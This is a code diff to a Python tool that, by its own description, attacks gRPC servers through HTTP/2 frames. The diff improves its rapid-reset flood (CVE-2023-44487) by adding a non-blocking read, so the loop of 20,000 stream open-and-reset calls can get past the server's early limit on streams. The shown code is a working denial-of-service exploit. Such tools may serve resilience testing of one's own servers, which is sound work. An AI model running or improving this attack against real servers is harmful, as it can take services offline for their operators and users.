@@ -1,5 +1,6 @@
 """Attacks below gRPC, by frames of HTTP/2: messages that never end, and streams that are reset as they begin."""
 
+import select
 import socket
 import threading
 from collections import Counter
@@ -55,6 +56,11 @@ class Connection:
         self.flush()
         return bool(data)
 
+    def read_what_came(self) -> None:
+        """Takes what came, without waiting for anything."""
+        if select.select([self._socket], [], [], 0.0)[0]:
+            self.read()
+
     def flush(self) -> None:
         """Writes what is to be said."""
         self._socket.sendall(self._state.data_to_send())
@@ -99,7 +105,10 @@ def _send_most(connection: Connection, deadline: float, outcomes: Outcomes) -> N
 
 
 def reset_streams(target: Target, count: int = 20_000) -> Outcomes:
-    """Calls that are taken back as they begin (CVE-2023-44487)."""
+    """Calls that are taken back as they begin (CVE-2023-44487).
+
+    What the server says is read: before its settings are acknowledged, it takes few calls.
+    """
     outcomes: Outcomes = Counter()
     connection = Connection(target)
     for _ in range(count // 100):
@@ -107,6 +116,7 @@ def reset_streams(target: Target, count: int = 20_000) -> Outcomes:
             for _ in range(100):
                 connection.reset(connection.begin_call())
             connection.flush()
+            connection.read_what_came()
             outcomes["reset"] += 100
         except (OSError, h2.exceptions.H2Error):
             outcomes["connections cut"] += 1
